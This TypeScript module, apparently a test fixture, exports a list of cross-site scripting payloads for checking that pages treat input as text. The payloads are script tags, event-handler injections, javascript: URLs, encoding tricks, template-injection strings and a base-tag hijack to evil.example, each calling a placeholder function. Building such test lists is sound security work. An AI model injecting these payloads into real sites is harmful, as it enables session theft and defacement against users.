// Each would call `hostile()`, if a page took it for anything but text.
export const PAYLOADS: readonly string[] = [
  '<script>hostile()</script>',
  '<img src=x onerror=hostile()>',
  '<svg onload=hostile()>',
  '<svg><script>hostile()</script></svg>',
  '<svg><animate onbegin=hostile() attributeName=x dur=1s>',
  '<body onload=hostile()>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<iframe src="javascript:parent.hostile()"></iframe>',
  '<a href="javascript:hostile()">click</a>',
  '<a href="java\tscript:hostile()">click</a>',
  '<input autofocus onfocus=hostile()>',
  '<details open ontoggle=hostile()>',
  '<video><source onerror=hostile()></video>',
  '<audio src=x onerror=hostile()>',
  '<object data="javascript:hostile()"></object>',
  '<embed src="javascript:hostile()">',
  '<math href="javascript:hostile()">m</math>',
  '<form action="javascript:hostile()"><button>go</button></form>',
  '<button formaction="javascript:hostile()" form=x>go</button>',
  '<link rel=stylesheet href="data:text/css,*{}">',
  '<meta http-equiv=refresh content="0;javascript:hostile()">',
  '<base href="https://evil.example/">',
  '<marquee onstart=hostile()>m</marquee>',
  '<div style="animation-name:x" onanimationstart=hostile()>d</div>',
  '<template><img src=x onerror=hostile()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hostile()>">',
  '<img src="x` `<script>hostile()</script>"` `>',
  '"><img src=x onerror=hostile()>',
  "'><svg onload=hostile()>",
  '" onmouseover="hostile()" x="',
  "' autofocus onfocus='hostile()' x='",
  '</title><script>hostile()</script>',
  '</script><script>hostile()</script>',
  ']]><script>hostile()</script>',
  '--><script>hostile()</script>',
  'javascript:hostile()',
  'data:text/html,<script>hostile()</script>',
  '{{constructor.constructor("hostile()")()}}',
  `$\{hostile()}`,
  '<%= hostile() %>',
  '[x](javascript:hostile())',
  '&lt;img src=x onerror=hostile()&gt;',
  '\u003cimg src=x onerror=hostile()\u003e',
  '＜img src=x onerror=hostile()＞',
]
/** Two of them, for a text that holds one. */
export const [SCRIPT = '', IMAGE = ''] = PAYLOADS
/** All of them, a line each. */
export const ALL = PAYLOADS.join('\n')

/** The payloads in texts of a length that a field allows. */
export function chunks(longest: number): string[] {
  const texts: string[] = []
  for (const payload of PAYLOADS.filter(({ length }) => length <= longest)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < longest) {
      texts[texts.length - 1] = `${last} ${payload}`
    } else texts.push(payload)
  }
  return texts
}
